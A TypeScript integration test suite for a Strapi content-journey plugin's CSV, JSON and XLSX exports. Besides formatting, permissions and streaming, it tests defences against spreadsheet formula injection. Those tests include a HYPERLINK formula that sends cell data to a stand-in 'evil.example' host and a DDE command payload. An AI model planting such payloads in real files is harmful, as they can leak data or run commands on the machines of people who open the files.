import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { read, utils } from '@e965/xlsx';
import type { WorkBook } from '@e965/xlsx';
import Papa from 'papaparse';
import request from 'supertest';
import { addAdmin } from './admins';
import { startApp } from './app';
import type { TestApp } from './app';
import { addMany } from './addMany';
import { addEntry, addJourney, addLocales, addSegments, journey, reset, uidOf } from './helpers';
import { untilQuiet } from './untilQuiet';

let app: TestApp;
const tokens: Record<string, string> = {};

const reads = (type: string, rest: object = {}) => ({
  action: 'plugin::content-manager.explorer.read',
  subject: uidOf(type),
  locales: ['en', 'da'],
  ...rest,
});
const READ = { action: 'plugin::journey.read' };

beforeAll(async () => {
  app = await startApp();
  await addLocales(app);
  const all = [reads('article'), reads('page'), reads('note', { fields: ['title'] })];
  tokens.reader = await addAdmin(app, 'reader', [...all, READ]);
  tokens.english = await addAdmin(app, 'english', [reads('article', { locales: ['en'] }), READ]);
  tokens.untitled = await addAdmin(app, 'untitled', [reads('article', { fields: ['body'] }), READ]);
  tokens.owner = await addAdmin(app, 'owner', [
    reads('article', { conditions: ['admin::is-creator'] }),
    READ,
  ]);
  tokens.dane = await addAdmin(app, 'dane', [...all, READ]);
  await app.strapi.db
    .query('admin::user')
    .update({ where: { email: 'dane@example.org' }, data: { preferedLanguage: 'da' } });
});
afterAll(() => app.stop());
beforeEach(async () => {
  await reset(app);
  await addJourney(app, 'first', ['a', 'b']);
  await addJourney(app, 'second', ['a', 'z']);
  await addSegments(app, 'smb', 'big');
});

const ARTICLE = uidOf('article');

const get = (path: string, who = 'reader') =>
  request(app.http)
    .get(`/journey/export${path}`)
    .set('Authorization', `Bearer ${tokens[who]}`)
    .buffer()
    .parse((answer, done) => {
      const parts: Buffer[] = [];
      answer.on('data', (part: Buffer) => parts.push(part));
      answer.on('end', () => done(null, Buffer.concat(parts)));
    });

const bytes = async (path: string, who?: string): Promise<Buffer> => {
  const { status, body } = await get(path, who);
  if (status !== 200) throw new Error(`${status} ${String(body)}`);
  return body;
};

type Row = Record<string, string>;

/** As another program reads it. */
async function rowsOf(path: string, who?: string): Promise<Row[]> {
  const text = (await bytes(path, who)).toString('utf8');
  const { data, errors } = Papa.parse<Row>(text.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return data;
}

const jsonOf = async (path: string, who?: string) =>
  JSON.parse((await bytes(path, who)).toString('utf8')).data;

describe('a CSV', () => {
  it('begins with a byte order mark, and ends its lines as RFC 4180 has it', async () => {
    const csv = await bytes('/gaps');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.toString('utf8').split('\r\n');
    expect(lines[0]).toMatch(/^\uFEFFkind,stage,stageName,segment,/);
    expect(lines.at(-1)).toBe('');
    expect(lines.join('')).not.toContain('\n');
  });

  it('has its headings where it has no rows', async () => {
    expect((await bytes('/plan')).toString('utf8')).toMatch(
      /^\uFEFFjourney,stage,[^\n]+,dueDate\r\n$/
    );
    expect((await bytes('/entries')).toString('utf8')).toMatch(
      /^\uFEFFcontentType,[^\n]+,link\r\n$/
    );
  });

  it('is read back as what was written, whatever it is made of', async () => {
    const titles = [
      'Plain',
      'Comma, semicolon; and "quotes"',
      'Two\nlines',
      'Smørrebrød, 東京, 🦔, ‏עברית',
      "It's",
      ' blank at both ends ',
    ];
    for (const title of titles) await addEntry(app, 'note', { stages: ['a'], data: { title } });
    for (const separator of ['comma', 'semicolon']) {
      const rows = await rowsOf(`/entries?separator=${separator}`);
      expect(rows.map(({ title }) => title).sort()).toEqual([...titles].sort());
    }
  });

  it('has a semicolon between columns where that is asked for', async () => {
    const csv = (await bytes('/gaps?separator=semicolon')).toString('utf8');
    expect(csv).toMatch(/^\uFEFFkind;stage;stageName;/);
  });

  it('has nothing that a spreadsheet takes for a formula', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1',
      '  =1',
      '\u00A0\u200B=1',
      '＝1',
      '＋1',
      '－1',
      '＠SUM(1)',
    ];
    for (const title of formulas) await addEntry(app, 'note', { data: { title } });
    const titles = (await rowsOf('/entries')).map(({ title }) => title);
    expect(titles.sort()).toEqual(formulas.map((formula) => `'${formula}`).sort());
    await journey(app, 'plans').set({ stage: 'a', questions: ['=1+1', 'Why?'], owner: '=2' });
    expect(await rowsOf('/plan')).toMatchObject([{ questions: "'=1+1\nWhy?", owner: "'=2" }]);
  });
});

describe('the matrix', () => {
  beforeEach(async () => {
    await addEntry(app, 'article', { stages: ['a'], segments: ['smb'], publish: true });
    await addEntry(app, 'note', {});
  });

  it('is a row for each cell, and one for what has no stage in each column', async () => {
    const rows = await rowsOf('/matrix?columns=segment');
    expect(rows).toHaveLength(2 * 3 + 3);
    expect(rows[0]).toEqual({
      journey: 'first',
      stage: 'a',
      stageName: 'A',
      phase: 'before',
      columns: 'segment',
      column: 'smb',
      columnName: 'SMB',
      published: '1',
      draft: '0',
      stale: '0',
      verdict: 'covered',
    });
    expect(rows.at(-1)).toMatchObject({
      stage: 'none',
      column: 'general',
      published: '1',
      verdict: '',
    });
  });

  it('is as JSON what the report answers', async () => {
    for (const columns of ['contentType', 'segment', 'locale'] as const) {
      const report = await journey(app, 'coverage').matrix(
        { columns },
        { canRead: (uid) => ['article', 'page', 'note'].map(uidOf).includes(uid) }
      );
      expect(await jsonOf(`/matrix?format=json&columns=${columns}`)).toEqual(report);
    }
  });

  it('looks at what is asked for, and no more than the caller may read', async () => {
    const rows = await rowsOf('/matrix?stage=b&journey=first&columns=contentType', 'english');
    expect(rows.map(({ stage, column }) => [stage, column])).toEqual([
      ['b', ARTICLE],
      ['none', ARTICLE],
    ]);
  });
});

it('the gaps are those of the report, in its order, in both formats', async () => {
  await addEntry(app, 'article', { stages: ['a'], segments: ['smb'] });
  const gaps = await journey(app, 'coverage').gaps(
    { locale: ['en', 'da'] },
    { canRead: (uid) => ['article', 'page', 'note'].map(uidOf).includes(uid) }
  );
  expect(gaps.length).toBeGreaterThan(4);
  expect(await jsonOf('/gaps?format=json&locale=en,da')).toEqual(gaps);
  const rows = await rowsOf('/gaps?locale=en,da');
  expect(rows.map(({ message, locale }) => [message, locale])).toEqual(
    gaps.map(({ message, locale }) => [message, locale ?? ''])
  );
});

describe('the plan', () => {
  const BRIEF = { trigger: 'Numbers', questions: ['What?', 'Who?'], owner: 'Freja', targetMin: 2 };
  beforeEach(async () => {
    const { set } = journey(app, 'plans');
    await set({ stage: 'b', segment: 'big', ...BRIEF });
    await set({ stage: 'a', contentType: ARTICLE, locale: 'da', owner: 'Jonas' });
    await set({ stage: 'a', segment: 'smb', contentType: uidOf('home'), owner: 'Nobody' });
  });

  it('comes in the order of the matrix, of types that the caller may read', async () => {
    const rows = await rowsOf('/plan');
    expect(rows.map(({ stage, segment }) => [stage, segment])).toEqual([
      ['a', 'general'],
      ['b', 'big'],
    ]);
    expect(rows[1]).toMatchObject({
      journey: 'first',
      targetMin: '2',
      targetMax: '',
      trigger: 'Numbers',
      questions: 'What?\nWho?',
      owner: 'Freja',
    });
    expect(await jsonOf('/plan?format=json')).toMatchObject([
      { stage: 'a', locale: 'da' },
      { stage: 'b', questions: ['What?', 'Who?'] },
    ]);
  });

  it('is narrowed down to the cells asked for', async () => {
    expect(await rowsOf('/plan?segment=big')).toHaveLength(1);
    expect(await rowsOf('/plan?locale=en')).toMatchObject([{ stage: 'b' }]);
    expect(await rowsOf('/plan?journey=second')).toEqual([]);
  });
});

describe('the entries', () => {
  it('are told with all that is known of them, each locale by itself', async () => {
    const since = new Date(Date.now() - 400 * 86_400_000);
    const documentId = await addEntry(app, 'article', {
      stages: ['a', 'b', 'second:z'],
      segments: ['big', 'smb'],
      data: { title: 'Get started' },
      publish: true,
      since,
    });
    await addEntry(app, 'article', { documentId, locale: 'da', data: { title: 'Kom i gang' } });
    const note = await addEntry(app, 'note', { data: { title: 'Noted' } });
    const rows = await rowsOf('/entries');
    const panel = app.strapi.config.get<string>('admin.absoluteUrl');
    expect(rows).toEqual([
      expect.objectContaining({
        documentId,
        locale: 'da',
        title: 'Kom i gang',
        status: 'draft',
        stages: '',
      }),
      {
        contentType: ARTICLE,
        contentTypeName: 'Article',
        documentId,
        locale: 'en',
        title: 'Get started',
        status: 'published',
        stale: 'true',
        stages: 'a,b',
        segments: 'smb,big',
        publishedAt: since.toISOString(),
        updatedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/),
        link: `${panel}/content-manager/collection-types/${ARTICLE}/${documentId}?plugins[i18n][locale]=en`,
      },
      expect.objectContaining({
        documentId: note,
        locale: '',
        status: 'published',
        stale: 'false',
        publishedAt: '',
      }),
    ]);
    const [, english] = await jsonOf('/entries?format=json');
    expect(english).toMatchObject({ stale: true, stages: ['a', 'b'], segments: ['smb', 'big'] });
  });

  it('are those of the list behind a cell, whatever is asked for', async () => {
    for (const stage of ['a', 'b', undefined]) {
      for (const segment of ['smb', undefined]) {
        for (const publish of [true, false]) {
          await addEntry(app, 'article', {
            stages: stage ? [stage] : [],
            segments: segment ? [segment] : [],
            publish,
          });
        }
      }
    }
    const queries = [
      '',
      '?stage=a',
      '?stage=a,b',
      '?stage=none',
      '?stage=a&segment=smb',
      '?segment=smb,general',
      '?stage=b&segment=general&status=draft',
      '?status=published',
      '?status=stale',
      '?journey=second&stage=none',
      `?contentType=${ARTICLE}&locale=en`,
    ];
    for (const query of queries) {
      const asked = Object.fromEntries(new URLSearchParams(query)) as { stage?: string };
      const { data } = await journey(app, 'entries').find({ ...asked, pageSize: 100 });
      const rows = await rowsOf(`/entries${query}`);
      const ids = (list: { documentId?: string }[]) => list.map((one) => one.documentId).sort();
      expect([query, ids(rows)]).toEqual([query, ids(data)]);
    }
  });

  it('are all there, once each, over many batches', async () => {
    await addMany(app, 2_500);
    const rows = await rowsOf('/entries');
    expect(new Set(rows.map(({ documentId }) => documentId)).size).toBe(2_500);
    expect(rows).toHaveLength(2_500);
    expect(await jsonOf('/entries?format=json')).toHaveLength(2_500);
  });

  it('are only those that the caller may read', async () => {
    const documentId = await addEntry(app, 'article', { data: { title: 'English' } });
    await addEntry(app, 'article', { documentId, locale: 'da', data: { title: 'Dansk' } });
    await addEntry(app, 'page', { data: { title: 'Page' } });
    const titles = async (who: string) => (await rowsOf('/entries', who)).map(({ title }) => title);
    expect(await titles('reader')).toEqual(['Dansk', 'English', 'Page']);
    expect(await titles('english')).toEqual(['English']);
    expect(await titles('untitled')).toEqual([documentId, documentId]);
    expect(await titles('owner')).toEqual([]);
  });
});

/** Its words by the sheet and the cell: `Grid!B2`. */
const wordsIn = ({ Sheets }: WorkBook, sheet: string, cell: string): unknown =>
  Sheets[sheet]?.[cell]?.v;

describe('the workbook', () => {
  const open = async (query = '', who?: string) =>
    read(await bytes(`/matrix?format=xlsx${query}`, who), { cellFormula: true, cellStyles: true });

  beforeEach(async () => {
    await addEntry(app, 'article', { stages: ['a'], segments: ['smb'], publish: true });
    await addEntry(app, 'article', { stages: ['a'], segments: ['smb'] });
    await journey(app, 'plans').set({
      stage: 'a',
      segment: 'smb',
      targetMin: 2,
      targetMax: 4,
      trigger: '=HYPERLINK("http://evil.example")',
      questions: ['What?', 'Who?'],
      dueDate: '2027-02-28',
    });
  });

  it('has stages down and segments across, and in each cell counts, verdict and what is wanted', async () => {
    const book = await open();
    expect(book.SheetNames).toEqual(['Grid', 'Plan', 'Gaps']);
    const heads = ['A1', 'B1', 'C1', 'D1', 'A2', 'A3'].map((cell) => wordsIn(book, 'Grid', cell));
    expect(heads).toEqual([
      'Stage',
      'SMB',
      'BIG',
      'General',
      'A\nBefore the purchase',
      expect.stringMatching(/^B\n/),
    ]);
    expect(wordsIn(book, 'Grid', 'B2')).toBe('1 published\n1 draft\nBelow target\n2 to 4 wanted');
    expect(wordsIn(book, 'Grid', 'C2')).toBe('0 published\nMissing');
    expect(wordsIn(book, 'Grid', 'D2')).toBe('0 published\nNo gap');
  });

  it('holds the plan with its brief in order, as text alone', async () => {
    const { Sheets } = await open();
    const [heads, plan] = utils.sheet_to_json<string[]>(Sheets.Plan ?? {}, { header: 1 });
    expect(heads?.slice(7)).toEqual([
      'The customer’s trigger or problem',
      'Questions',
      'Search terms',
      'Message',
      'Measuring point',
      'Channels',
      'Formats',
      'Owner',
      'Due',
    ]);
    expect(plan?.slice(0, 2)).toEqual(['A', 'SMB']);
    expect(Sheets.Plan?.H2).toMatchObject({ t: 's', v: '=HYPERLINK("http://evil.example")' });
    expect(Sheets.Plan?.I2).toMatchObject({ v: 'What?\nWho?' });
    expect(Sheets.Plan?.E2).toMatchObject({ t: 'n', v: 2 });
    const cells = Object.values(Sheets).flatMap((sheet) => Object.values(sheet));
    expect(cells.filter((cell) => cell && typeof cell === 'object' && 'f' in cell)).toEqual([]);
  });

  it('lists the gaps in sentences, worst first', async () => {
    const { Sheets } = await open();
    const gaps = await journey(app, 'coverage').gaps(
      {},
      { canRead: (uid) => ['article', 'page', 'note'].map(uidOf).includes(uid) }
    );
    const rows = utils.sheet_to_json<string[]>(Sheets.Gaps ?? {}, { header: 1 });
    expect(rows.slice(1).map(([sentence]) => sentence)).toEqual(gaps.map(({ message }) => message));
  });

  it('is in the language of the panel', async () => {
    const book = await open('', 'dane');
    expect(book.SheetNames).toEqual(['Oversigt', 'Plan', 'Huller']);
    expect(wordsIn(book, 'Oversigt', 'C2')).toBe('0 udgivne\nMangler');
  });

  it('follows what is asked to run across', async () => {
    const book = await open('&columns=contentType&stage=a', 'english');
    expect(wordsIn(book, 'Grid', 'B1')).toBe('Article');
    expect(wordsIn(book, 'Grid', 'A3')).toBe('Not tagged');
  });
});

describe('what is sent', () => {
  it.each([
    ['/matrix', 'matrix', 'csv', 'text/csv; charset=utf-8'],
    ['/gaps?format=json', 'gaps', 'json', 'application/json; charset=utf-8'],
    ['/plan', 'plan', 'csv', 'text/csv; charset=utf-8'],
    ['/entries?format=json', 'entries', 'json', 'application/json; charset=utf-8'],
    [
      '/matrix?format=xlsx',
      'matrix',
      'xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ],
  ])('says what it is and is called: %s', async (path, what, extension, type) => {
    const { headers } = await get(path).expect(200);
    expect(headers['content-type']).toBe(type);
    const day = new Date().toISOString().slice(0, 10);
    expect(headers['content-disposition']).toBe(
      `attachment; filename="journey-first-${what}-${day}.${extension}"`
    );
    expect(headers['cache-control']).toBe('private, no-store');
  });

  it.each([
    ['/matrix?format=pdf', 'format: must be one of csv, json, xlsx'],
    ['/entries?format=xlsx', 'format: must be one of csv, json'],
    ['/gaps?separator=tab', 'separator: must be one of comma, semicolon'],
    ['/entries?stage=x', 'stage: "x" is unknown; allowed: a, b'],
    ['/entries?status=old', 'status: must be one of published, draft, stale'],
    ['/plan?contentType=api::home.home', 'contentType: "api::home.home" is unknown; allowed: '],
    ['/plan?journey=third', 'journey: "third" is unknown; allowed: first, second'],
  ])('is a refusal that says what is allowed: %s', async (path, message) => {
    const { body } = await get(path).expect(400);
    expect(JSON.parse(body.toString()).error.message).toContain(message);
  });
});

describe('a file of very many entries', () => {
  const TITLE = 'x'.repeat(250);
  beforeEach(() => addMany(app, 30_000, TITLE), 60_000);

  /** An answer that nobody reads yet. */
  async function ask(): Promise<http.IncomingMessage> {
    const { port } = app.http.address() as AddressInfo;
    const sent = http.get({
      port,
      host: '127.0.0.1',
      path: '/journey/export/entries',
      headers: { Authorization: `Bearer ${tokens.reader}` },
    });
    const [answer] = (await once(sent, 'response')) as [http.IncomingMessage];
    return answer;
  }

  /** How many batches are read from the database while `run` does. */
  async function batchesOf(run: () => Promise<void>): Promise<number> {
    let batches = 0;
    const count = ({ sql }: { sql: string }): void => {
      if (/select distinct .*document_id/.test(sql)) batches += 1;
    };
    app.strapi.db.connection.on('query', count);
    await run();
    app.strapi.db.connection.removeListener('query', count);
    return batches;
  }

  it('is read no faster than it is fetched, and no further once nobody waits for it', async () => {
    const batches = await batchesOf(async () => {
      const answer = await ask();
      await wait(1_500);
      answer.destroy();
      await wait(500);
      await untilQuiet(app.strapi);
    });
    expect(batches).toBeGreaterThan(0);
    expect(batches).toBeLessThan(25);
  }, 60_000);

  it('breaks off where the database fails, rather than look whole', async () => {
    const answer = await ask();
    const db = app.strapi.db.connection;
    await db.schema.renameTable('journey_plugin_placements', 'journey_plugin_elsewhere');
    try {
      const read = async (): Promise<number> => {
        let size = 0;
        for await (const part of answer) size += (part as Buffer).length;
        return size;
      };
      await expect(read()).rejects.toThrow('aborted');
      expect(answer.complete).toBe(false);
    } finally {
      await db.schema.renameTable('journey_plugin_elsewhere', 'journey_plugin_placements');
    }
  }, 60_000);
});
